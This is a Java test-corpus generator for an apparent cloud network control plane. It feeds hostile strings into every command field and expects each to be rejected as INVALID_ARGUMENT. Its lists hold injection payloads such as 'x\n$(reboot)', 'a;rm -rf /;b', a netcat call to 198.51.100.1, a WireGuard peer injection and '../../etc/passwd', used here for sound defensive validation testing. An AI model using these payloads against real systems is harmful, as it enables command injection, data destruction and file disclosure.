package io.factnet.reliability.corpus;

import io.factnet.model.Reason;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import org.apache.avro.Schema;

/**
 * The generated family of the corpus: newlines and shell characters in every string field of every
 * command (and in the envelope's request id and project), one field at a time, starting from a valid
 * command of the corpus's world. Everything that reaches a state topic may end up in a rule file, a
 * hosts file, an interface name or a WireGuard config on a node, so each must be INVALID_ARGUMENT.
 * Free text (a group's description) is data that never reaches a node: there only control characters
 * must be refused, shell characters are just text.
 */
public final class HostileStrings {
    public static final String FAMILY = "newlines and shell characters in every string field";

    /** Values with a line break: refused in every field. */
    static final List<String> CONTROL = List.of(
            "x\n$(reboot)",
            "ok\r\n[Peer]\nAllowedIPs = 0.0.0.0/0");
    /** Shell and file metacharacters on one line: refused in every field that is not free text. */
    static final List<String> SHELL = List.of(
            "a;rm -rf /;b",
            "`id`|nc 198.51.100.1 4444&",
            "../../etc/passwd",
            "x'\"$HOME{}<>*?");
    /** Fields that are free text: stored and shown, never rendered into a node's configuration. */
    static final Set<String> FREE_TEXT = Set.of("CreateSecurityGroup.description", "ReserveFixedAddress.description");
    /**
     * Fields that are opaque data for the instance itself, which any text is (ADR 0033): user data is a script or a
     * #cloud-config with line breaks, served as it is to the one instance it belongs to, never rendered on a node.
     * No hostile value of this family applies: their limits are entries of the corpus (user-data-65536).
     */
    public static final Set<String> OPAQUE = Set.of("SetInstanceMetadata.userData");

    private HostileStrings() {
    }

    /** One entry per command base, string field and hostile value, plus the envelope's fields once. */
    public static List<CorpusEntry> entries(List<CommandTemplate> bases) {
        List<CorpusEntry> entries = new ArrayList<>();
        Set<String> done = new LinkedHashSet<>();
        for (CommandTemplate base : bases) {
            for (Schema.Field field : base.schema().getFields()) {
                String path = base.command() + "." + field.name();
                if (!isStringField(field.schema()) || done.contains(path) || !fitsBase(base, field.name()) || OPAQUE.contains(path)) {
                    continue;
                }
                done.add(path);
                List<String> values = new ArrayList<>(CONTROL);
                if (!FREE_TEXT.contains(path)) {
                    values.addAll(SHELL);
                }
                for (int i = 0; i < values.size(); i++) {
                    Object value = field.schema().getType() == Schema.Type.ARRAY ? List.of(values.get(i)) : values.get(i);
                    entries.add(CorpusEntry.of("hostile-" + base.command() + "-" + field.name() + "-" + i, FAMILY,
                            base.with(field.name(), value), Expectation.rejected(Reason.INVALID_ARGUMENT)));
                }
            }
        }
        CommandTemplate envelope = bases.stream().filter(b -> b.command().equals("AllocateFloatingIp")).findFirst()
                .orElseThrow(() -> new IllegalArgumentException("the bases need an AllocateFloatingIp for the envelope's fields"));
        List<String> all = new ArrayList<>(CONTROL);
        all.addAll(SHELL);
        for (int i = 0; i < all.size(); i++) {
            entries.add(CorpusEntry.of("hostile-envelope-project-" + i, FAMILY, envelope.withProject(all.get(i)),
                    Expectation.rejected(Reason.INVALID_ARGUMENT)));
            entries.add(new CorpusEntry("hostile-envelope-request-id-" + i, FAMILY, envelope, null, all.get(i), null,
                    Expectation.rejected(Reason.INVALID_ARGUMENT)));
        }
        return entries;
    }

    /** A field that excludes another (sourceCidr, sourceGroup) is varied only on the base that sets it. */
    private static boolean fitsBase(CommandTemplate base, String field) {
        boolean nullable = base.schema().getField(field).schema().getType() == Schema.Type.UNION;
        return !nullable || base.fields().containsKey(field);
    }

    static boolean isStringField(Schema schema) {
        return switch (schema.getType()) {
            case STRING -> true;
            case UNION -> schema.getTypes().stream().anyMatch(HostileStrings::isStringField);
            case ARRAY -> isStringField(schema.getElementType());
            default -> false;
        };
    }
}
